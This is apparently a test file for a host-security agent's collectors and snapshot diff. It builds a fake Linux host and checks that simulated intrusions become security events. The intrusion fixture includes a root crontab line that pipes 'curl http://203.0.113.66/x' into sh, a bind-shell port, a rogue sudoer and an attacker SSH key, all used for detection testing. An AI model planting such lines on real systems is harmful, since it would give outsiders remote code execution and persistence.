/**
 * The agent's collectors on a fixture tree (a temp directory laid out like a host: /proc, /etc, /var),
 * built here file by file, including socket symlinks and binary utmp records; and the snapshot diff
 * that turns two snapshots into the events the built-in rules read.
 */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { collectMetrics } from '../src/collectors/metrics.ts';
import { collectPorts, hexAddress } from '../src/collectors/ports.ts';
import { collectGroups, collectUsers } from '../src/collectors/accounts.ts';
import { collectSudoers } from '../src/collectors/sudoers.ts';
import { collectSshKeys, fingerprint } from '../src/collectors/ssh-keys.ts';
import { collectSshd } from '../src/collectors/sshd.ts';
import { parseUtmp, readNewLogins } from '../src/collectors/logins.ts';
import { collectPackages, parseDpkgStatus } from '../src/collectors/packages.ts';
import { collectOs } from '../src/collectors/os-info.ts';
import { collectFim } from '../src/collectors/fim.ts';
import { takeSnapshot } from '../src/snapshot.ts';
import { diffSnapshots, loginEvents, newOutbound } from '../src/snapshot-diff.ts';

let root: string;
const put = (path: string, text: string | Buffer) => {
  mkdirSync(dirname(join(root, path)), { recursive: true });
  writeFileSync(join(root, path), text);
};

const ED25519 = 'AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl';

/** A glibc utmp record (384 bytes). */
function utmp(type: number, user: string, tty: string, host: string, ip: number[], sec: number, pid = 1234): Buffer {
  const b = Buffer.alloc(384);
  b.writeInt32LE(type, 0);
  b.writeInt32LE(pid, 4);
  b.write(tty, 8);
  b.write(user, 44);
  b.write(host, 76);
  b.writeInt32LE(sec, 340);
  ip.forEach((v, i) => (b[348 + i] = v));
  return b;
}

function hostTree(): void {
  put('/proc/stat', 'cpu  100 0 100 800 0 0 0 0 0 0\ncpu0 50 0 50 400 0 0 0 0 0 0\ncpu1 50 0 50 400 0 0 0 0 0 0\n');
  put('/proc/loadavg', '0.52 0.40 0.31 2/345 6789\n');
  put('/proc/meminfo', 'MemTotal:       8000000 kB\nMemFree:        1000000 kB\nMemAvailable:   6000000 kB\nSwapTotal:      2000000 kB\nSwapFree:       1500000 kB\n');
  put('/proc/mounts', 'proc /proc proc rw 0 0\n/dev/sda1 / ext4 rw 0 0\n/dev/sdb1 /srv\\040data xfs rw 0 0\ntmpfs /run tmpfs rw 0 0\n');
  mkdirSync(join(root, 'srv data'), { recursive: true });
  put('/proc/net/dev', 'Inter-|   Receive\n face |bytes packets errs drop fifo frame compressed multicast|bytes packets errs drop fifo colls carrier compressed\n    lo: 100 1 0 0 0 0 0 0 100 1 0 0 0 0 0 0\n  eth0: 1000 10 0 0 0 0 0 0 2000 20 0 0 0 0 0 0\n');
  put('/proc/uptime', '12345.67 23456.78\n');
  // Sockets: sshd listens on 0.0.0.0:22 (inode 111), nginx on [::]:443 (222), dnsmasq on udp 127.0.0.1:53;
  // curl has an outbound connection to 93.184.216.34:443 (inode 333).
  put('/proc/net/tcp', '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 111 1 0\n   1: 0200000A:D431 22D8B85D:01BB 01 00000000:00000000 00:00000000 00000000  1000        0 333 1 0\n');
  put('/proc/net/tcp6', '  sl  local_address                         remote_address                        st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 00000000000000000000000000000000:01BB 00000000000000000000000000000000:0000 0A 00000000:00000000 00:00000000 00000000    33        0 222 1 0\n');
  put('/proc/net/udp', '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode ref pointer drops\n  1: 0100007F:0035 00000000:0000 07 00000000:00000000 00:00000000 00000000   0        0 444 2 0 0\n');
  for (const [pid, comm, inode] of [['100', 'sshd', '111'], ['200', 'nginx', '222'], ['300', 'curl', '333']] as const) {
    put(`/proc/${pid}/comm`, `${comm}\n`);
    mkdirSync(join(root, `proc/${pid}/fd`), { recursive: true });
    symlinkSync(`socket:[${inode}]`, join(root, `proc/${pid}/fd/3`));
    symlinkSync('/dev/null', join(root, `proc/${pid}/fd/0`));
    symlinkSync(`/usr/sbin/${comm}`, join(root, `proc/${pid}/exe`));
  }
  put('/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\nbob:x:1001:27:Bob:/home/bob:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n');
  put('/etc/group', 'root:x:0:\nsudo:x:27:alice\nalice:x:1000:\nwww-data:x:33:\nops:x:1500:carol,dave\n');
  put('/etc/sudoers', 'Defaults env_reset\n# comment\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n');
  put('/etc/sudoers.d/ops', '%ops ALL=(root) NOPASSWD: /usr/bin/systemctl \\\n  restart nginx\n');
  put('/etc/sudoers.d/README', '# nothing\n');
  put('/etc/sudoers.d/ignored.bak', 'mallory ALL=(ALL) ALL\n');
  put('/root/.ssh/authorized_keys', `# admin keys\nfrom="10.0.0.0/8",no-pty ssh-ed25519 ${ED25519} ops@laptop\n`);
  put('/home/alice/.ssh/authorized_keys', '');
  put('/etc/ssh/sshd_config', 'Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\nPasswordAuthentication no\nX11Forwarding yes\nMatch User bob\n  PasswordAuthentication yes\n');
  put('/etc/ssh/sshd_config.d/10-local.conf', 'PermitRootLogin yes\n');
  put('/var/lib/dpkg/status', 'Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-2\n\nPackage: nginx\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.22.1-9\n\nPackage: telnetd\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 0.17-44\n');
  put('/etc/os-release', 'PRETTY_NAME="Debian GNU/Linux 13 (trixie)"\nNAME="Debian GNU/Linux"\nVERSION_ID="13"\nID=debian\n');
  put('/proc/sys/kernel/osrelease', '6.12.0-1-amd64\n');
  put('/proc/sys/kernel/hostname', 'web-1\n');
  put('/var/log/wtmp', Buffer.concat([utmp(7, 'alice', 'pts/0', '203.0.113.5', [203, 0, 113, 5], 1_760_000_000), utmp(8, '', 'pts/0', '', [], 1_760_000_100)]));
  put('/var/log/btmp', utmp(6, 'admin', 'ssh:notty', '198.51.100.9', [198, 51, 100, 9], 1_760_000_050));
  put('/etc/crontab', '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n');
  put('/etc/shadow', 'root:*:19000:0:99999:7:::\n');
  chmodSync(join(root, 'etc/shadow'), 0o640);
}

beforeAll(() => {
  root = mkdtempSync(join(tmpdir(), 'vigil-agent-fixture-'));
  hostTree();
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('metrics', () => {
  it('reads CPU, load, memory, swap, disks, network, uptime and processes under the root', () => {
    const fs = (p: string) => (p.endsWith('srv data') ? { bsize: 4096, blocks: 1000, bfree: 100, bavail: 50, files: 100, ffree: 90 } : { bsize: 4096, blocks: 1000, bfree: 600, bavail: 550, files: 1000, ffree: 400 });
    const first = collectMetrics(root, {}, 1_000, fs);
    const names = first.samples.map((s) => s.name);
    expect(names).not.toContain('cpu.load_pct');
    expect(first.samples).toEqual(expect.arrayContaining([{ name: 'cpu.cores', value: 2 }, { name: 'load.1m', value: 0.52 }, { name: 'memory.used_pct', value: 25 }, { name: 'swap.used_pct', value: 25 }, { name: 'system.uptime_s', value: 12346 }, { name: 'processes.count', value: 3 }]));
    const disk = first.samples.filter((s) => s.name === 'disk.used_pct');
    expect(disk).toEqual([
      { name: 'disk.used_pct', labels: { mount: '/', device: '/dev/sda1', fstype: 'ext4' }, value: 42.11 },
      { name: 'disk.used_pct', labels: { mount: '/srv data', device: '/dev/sdb1', fstype: 'xfs' }, value: 94.74 },
    ]);
    // Ten seconds later: 100 of 200 jiffies busy, 1000 more bytes in and 3000 out on eth0.
    put('/proc/stat', 'cpu  150 0 150 900 0 0 0 0 0 0\n');
    put('/proc/net/dev', 'h\nh\n  eth0: 2000 10 0 0 0 0 0 0 5000 20 0 0 0 0 0 0\n');
    const second = collectMetrics(root, first.state, 11_000, fs);
    expect(second.samples).toEqual(expect.arrayContaining([{ name: 'cpu.load_pct', value: 50 }, { name: 'net.in_bps', labels: { interface: 'eth0' }, value: 800 }, { name: 'net.out_bps', labels: { interface: 'eth0' }, value: 2400 }]));
  });
});

describe('security collectors', () => {
  it('decodes /proc/net addresses', () => {
    expect(hexAddress('0100007F')).toBe('127.0.0.1');
    expect(hexAddress('00000000000000000000000001000000')).toBe('::1');
    expect(hexAddress('0000000000000000FFFF00000100007F')).toBe('127.0.0.1');
    expect(hexAddress('B80D0120000000000000000001000000')).toBe('2001:db8::1');
  });

  it('lists listening ports with their processes and outbound connections', () => {
    const p = collectPorts(root);
    expect(p.listening).toEqual([
      { transport: 'tcp', ip: '0.0.0.0', port: 22, uid: 0, pid: 100, process: 'sshd', exe: '/usr/sbin/sshd' },
      { transport: 'udp', ip: '127.0.0.1', port: 53, uid: 0 },
      { transport: 'tcp', ip: '::', port: 443, uid: 33, pid: 200, process: 'nginx', exe: '/usr/sbin/nginx' },
    ]);
    expect(p.outbound).toEqual([{ remoteIp: '93.184.216.34', remotePort: 443, localPort: 54321, pid: 300, process: 'curl', exe: '/usr/sbin/curl' }]);
  });

  it('reads users, groups and who can use sudo', () => {
    const users = collectUsers(root);
    const groups = collectGroups(root);
    expect(users.map((u) => u.name)).toEqual(['root', 'alice', 'bob', 'www-data']);
    const s = collectSudoers(root, users, groups);
    expect(s.rules.map((r) => r.principal)).toEqual(['root', '%sudo', '%ops']);
    expect(s.rules[2]!.rule).toBe('%ops ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx');
    // alice by group list, bob by primary group 27, carol and dave through %ops; never the ignored file's mallory.
    expect(s.admins).toEqual(['alice', 'bob', 'carol', 'dave', 'root']);
  });

  it('fingerprints authorized keys like ssh-keygen', () => {
    const keys = collectSshKeys(root, collectUsers(root));
    expect(keys).toEqual([{ user: 'root', file: '/root/.ssh/authorized_keys', type: 'ssh-ed25519', fingerprint: fingerprint(ED25519), comment: 'ops@laptop', options: 'from="10.0.0.0/8",no-pty' }]);
    expect(fingerprint(ED25519)).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  });

  it('reads sshd settings with includes (first value wins, Match blocks aside) and names the risky ones', () => {
    const s = collectSshd(root);
    expect(s.settings.permitrootlogin).toBe('yes');
    expect(s.settings.passwordauthentication).toBe('no');
    expect(s.risky.map((r) => r.setting)).toEqual(['permitrootlogin', 'x11forwarding']);
  });

  it('reads logins and failed logins from utmp records, new ones only', () => {
    const w = readNewLogins(root, '/var/log/wtmp', 0, false);
    expect(w.records).toEqual([{ type: 'login', user: 'alice', tty: 'pts/0', host: '203.0.113.5', ip: '203.0.113.5', pid: 1234, at: 1_760_000_000_000 }]);
    expect(w.offset).toBe(768);
    expect(readNewLogins(root, '/var/log/wtmp', 768, false).records).toEqual([]);
    const b = readNewLogins(root, '/var/log/btmp', 0, true);
    expect(b.records[0]).toMatchObject({ type: 'failed', user: 'admin', ip: '198.51.100.9' });
    expect(loginEvents(b.records)[0]).toMatchObject({ 'event.dataset': 'agent.login', 'event.action': 'login-failed', 'event.outcome': 'failure', 'user.name': 'admin', 'source.ip': '198.51.100.9' });
    expect(parseUtmp(Buffer.alloc(100), false)).toEqual([]);
  });

  it('lists installed packages (not removed ones) and the OS', () => {
    expect(collectPackages(root)).toEqual({ manager: 'dpkg', packages: [{ name: 'nginx', version: '1.22.1-9', arch: 'amd64' }, { name: 'openssh-server', version: '1:9.2p1-2', arch: 'amd64' }] });
    expect(collectOs(root)).toMatchObject({ name: 'Debian GNU/Linux 13 (trixie)', id: 'debian', version: '13', kernel: '6.12.0-1-amd64', hostname: 'web-1' });
  });

  it('parses dpkg status paragraphs (CRLF, blank lines of spaces, continuation lines) and re-reads the file only when it changed', () => {
    const text = 'Package: zlib1g\r\nStatus: install ok installed\r\nVersion: 1:1.3.dfsg+really1.3.1-1+b1\r\nArchitecture: amd64\r\nDescription: compression\r\n Package: not-a-field\r\n \t\r\nPackage: a-held-one\nStatus: hold ok installed  \nArchitecture: all\n\n\nPackage: removed\nStatus: deinstall ok config-files\nVersion: 1\n';
    const want = [{ name: 'a-held-one', version: '', arch: 'all' }, { name: 'zlib1g', version: '1:1.3.dfsg+really1.3.1-1+b1', arch: 'amd64' }];
    expect(parseDpkgStatus(text)).toEqual(want);
    expect(parseDpkgStatus(Buffer.from(text))).toEqual(want);
    const first = collectPackages(root);
    expect(collectPackages(root).packages).toBe(first.packages);
    put('/var/lib/dpkg/status', text);
    expect(collectPackages(root)).toEqual({ manager: 'dpkg', packages: want });
    put('/var/lib/dpkg/status', 'Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-2\n\nPackage: nginx\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.22.1-9\n\nPackage: telnetd\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 0.17-44\n');
    expect(collectPackages(root)).toEqual(first);
  });

  it('hashes watched files with mode and owner; a directory means its files', () => {
    const f = collectFim(root, ['/etc/crontab', '/etc/shadow', '/etc/sudoers.d', '/etc/missing'], { users: new Map([[0, 'root']]), groups: new Map() });
    expect(Object.keys(f)).toEqual(['/etc/crontab', '/etc/shadow', '/etc/sudoers.d/README', '/etc/sudoers.d/ignored.bak', '/etc/sudoers.d/ops']);
    expect(f['/etc/shadow']!.mode).toBe('0640');
    expect(f['/etc/crontab']!.sha256).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('snapshot diff', () => {
  it('the first snapshot is a baseline; changes become the events the built-in rules read', () => {
    const opts = { root, fimPaths: ['/etc/crontab', '/etc/sudoers.d'], enabled: () => true, hashCache: new Map(), loginOffsets: null };
    const a = takeSnapshot(opts);
    expect(diffSnapshots({}, a.sections, 0)).toEqual([]);
    expect(a.newLogins).toEqual([]);
    // The attacker's afternoon: a bind shell, a sudoer, a key, PermitEmptyPasswords, a cron line, a package.
    put('/proc/net/tcp', '  sl header\n   0: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 111 1 0\n   1: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000  1000        0 555 1 0\n');
    put('/etc/group', 'root:x:0:\nsudo:x:27:alice,mallory\nalice:x:1000:\nwww-data:x:33:\nops:x:1500:carol,dave\n');
    put('/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\nbob:x:1001:27:Bob:/home/bob:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\nmallory:x:1002:1002::/home/mallory:/bin/sh\n');
    put('/home/alice/.ssh/authorized_keys', `ssh-ed25519 ${ED25519.slice(0, -4)}AAAA evil@box\n`);
    put('/etc/ssh/sshd_config.d/20-x.conf', 'PermitEmptyPasswords yes\n');
    put('/etc/crontab', '* * * * * root curl http://203.0.113.66/x | sh\n');
    put('/var/lib/dpkg/status', 'Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-3\n\nPackage: netcat-openbsd\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.219-1\n');
    put('/var/log/btmp', Buffer.concat([utmp(6, 'admin', 'ssh:notty', '198.51.100.9', [198, 51, 100, 9], 1_760_000_050), utmp(6, 'oracle', 'ssh:notty', '198.51.100.10', [198, 51, 100, 10], 1_760_000_060)]));
    const b = takeSnapshot({ ...opts, loginOffsets: a.loginOffsets });
    const events = diffSnapshots(a.sections, b.sections, 1_000);
    const got = events.map((e) => `${e['event.dataset']} ${e['event.action']}`);
    expect(got).toEqual(
      expect.arrayContaining(['agent.port port-opened', 'agent.user user-added', 'agent.user group-member-added', 'agent.sudoer sudoer-added', 'agent.ssh_key key-added', 'agent.sshd risky-setting-added', 'agent.fim file-changed', 'agent.package package-installed', 'agent.package package-upgraded', 'agent.package package-removed']),
    );
    expect(events.find((e) => e['event.action'] === 'port-opened')).toMatchObject({ 'server.port': 4444, 'network.transport': 'tcp', 'vigil.severity': 'medium' });
    expect(events.find((e) => e['event.action'] === 'sudoer-added')).toMatchObject({ 'user.name': 'mallory', 'vigil.severity': 'high' });
    expect(events.find((e) => e['event.action'] === 'key-added')).toMatchObject({ 'user.name': 'alice', 'ssh.key.comment': 'evil@box' });
    expect(events.find((e) => e['event.action'] === 'risky-setting-added')).toMatchObject({ 'sshd.setting': 'permitemptypasswords' });
    expect(events.find((e) => e['event.dataset'] === 'agent.fim')).toMatchObject({ 'file.path': '/etc/crontab', 'agent.fim.changed': ['hash'] });
    expect(b.newLogins.map((l) => l.user)).toEqual(['oracle']);
  });

  it('reports an outbound (process, address) pair once', () => {
    const seen = new Set<string>();
    const c = [{ process: 'curl', exe: '/usr/bin/curl', remoteIp: '93.184.216.34', remotePort: 443, localPort: 5000 }];
    expect(newOutbound(c, seen, 0)).toHaveLength(1);
    expect(newOutbound([{ ...c[0]!, localPort: 5001 }], seen, 0)).toHaveLength(0);
  });
});
